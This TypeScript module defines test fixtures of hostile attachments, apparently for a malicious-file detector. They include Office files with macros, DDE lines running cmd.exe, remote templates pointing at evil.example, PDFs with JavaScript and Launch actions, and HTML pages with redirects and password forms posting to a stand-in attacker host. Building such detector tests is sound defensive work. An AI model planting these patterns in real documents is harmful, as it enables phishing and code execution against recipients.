/** Documents and pages that attack. */
import { compoundFile, text, zip } from "./archives.ts";
import { file, type HostileAttachment, word } from "./hostile-attachment.ts";

const relationship = (type: string, mode = "External") =>
  text(
    `<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="http://evil.example/a" TargetMode="${mode}"/></Relationships>`,
  );
const sheet = (more: Record<string, Uint8Array>) =>
  zip({ "[Content_Types].xml": text("<Types/>"), "xl/workbook.xml": text("<w/>"), ...more });
const pdf = (body: string) => text(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${body} >>\nendobj\ntrailer\n%%EOF`);
const office = [
  file("a document with macros", "a.docm", word({ "word/vbaProject.bin": text("x") }), "office", "macros"),
  file("macros behind a harmless name", "a.docx", word({ "word/vbaProject.bin": text("x") }), "office", "macros"),
  file(
    "macros told by the types alone",
    "a.docx",
    zip({
      "[Content_Types].xml": text("application/vnd.ms-word.document.macroEnabled.main+xml"),
      "word/document.xml": text("a"),
    }),
    "office",
    "macros",
  ),
  file("an Excel 4 macro sheet", "a.xlsx", sheet({ "xl/macrosheets/sheet1.xml": text("x") }), "office", "macros"),
  file(
    "an old document with macros",
    "a.doc",
    compoundFile("WordDocument", "Macros", "_VBA_PROJECT"),
    "office",
    "macros",
  ),
  file(
    "an old sheet with a macro sheet",
    "a.xls",
    Buffer.concat([compoundFile("Workbook"), Buffer.from("85000e000000000002010600", "hex"), Buffer.from("Macro1")]),
    "office",
    "macros",
  ),
  file(
    "a template from elsewhere",
    "a.docx",
    word({ "word/_rels/settings.xml.rels": relationship("attachedTemplate") }),
    "office",
    "outside-content",
  ),
  file(
    "an object from elsewhere",
    "a.docx",
    word({ "word/_rels/document.xml.rels": relationship("oleObject") }),
    "office",
    "outside-content",
  ),
  file(
    "commands (DDE)",
    "a.docx",
    word({ "word/document.xml": text('<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>') }),
    "office",
    "dde",
  ),
  file(
    "commands (DDE) cut into pieces",
    "a.docx",
    word({ "word/document.xml": text("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>") }),
    "office",
    "dde",
  ),
  file(
    "commands (DDE) in a sheet",
    "a.xlsx",
    sheet({ "xl/externalLinks/externalLink1.xml": text('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>') }),
    "office",
    "dde",
  ),
  file(
    "an object inside",
    "a.docx",
    word({ "word/embeddings/oleObject1.bin": text("x") }),
    "office",
    "embedded-objects",
  ),
  file(
    "an object in an old document",
    "a.doc",
    compoundFile("WordDocument", "\x01Ole10Native"),
    "office",
    "embedded-objects",
  ),
  file(
    "an encrypted document",
    "a.docx",
    compoundFile("EncryptedPackage", "StrongEncryptionDataSpace"),
    "office",
    "encrypted",
  ),
  file(
    "rich text with an object",
    "a.rtf",
    "{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}",
    "office",
    "embedded-objects",
  ),
  file(
    "rich text with a template",
    "a.doc",
    "{\\rtf1{\\*\\template http://evil.example/a}}",
    "office",
    "outside-content",
  ),
];

const pdfs = [
  file("a script", "a.pdf", pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "pdf", "pdf-script"),
  file("a script with a written-round name", "a.pdf", pdf("/AA << /S /J#61vaScript >>"), "pdf", "pdf-script"),
  file("a program to start", "a.pdf", pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf", "pdf-launch"),
  file("a file inside", "a.pdf", pdf("/Names << /EmbeddedFiles 2 0 R >>"), "pdf", "pdf-files"),
  file("a closed one", "a.pdf", pdf("/Encrypt 5 0 R"), "pdf", "encrypted"),
  file(
    "one that begins late",
    "a.pdf",
    Buffer.concat([Buffer.alloc(500, 65), pdf("/OpenAction << /S /Launch >>")]),
    "pdf",
    "pdf-launch",
  ),
  file("one named as a picture", "a.png", pdf(""), "pdf", "other-type"),
];

const pages = [
  file("a page with a script", "a.html", "<html><script>location='//evil.example'</script>", "page", "page-script"),
  file(
    "a page that asks for a password",
    "a.htm",
    '<form action="//evil.example"><input type="password">',
    "page",
    "page-form",
  ),
  file(
    "a page that leads away",
    "a.html",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "page",
    "page-redirect",
  ),
  file("a page named as a text", "a.txt", "<!doctype html><title>Sign in</title>", "page", "other-type"),
  file("a page behind a comment", "a.html", "<!-- saved --> \n<html onload=alert(1)>", "page", "page-script"),
  file(
    "a page in UTF-16",
    "a.html",
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("<html></html>", "utf16le")]),
    "page",
  ),
  file(
    "a drawing with a script",
    "a.svg",
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    "drawing",
    "page-script",
  ),
  file("a drawing named as a picture", "a.png", '<svg onload="alert(1)"/>', "drawing", "page-script"),
];

export const documents: HostileAttachment[] = [...office, ...pdfs, ...pages];
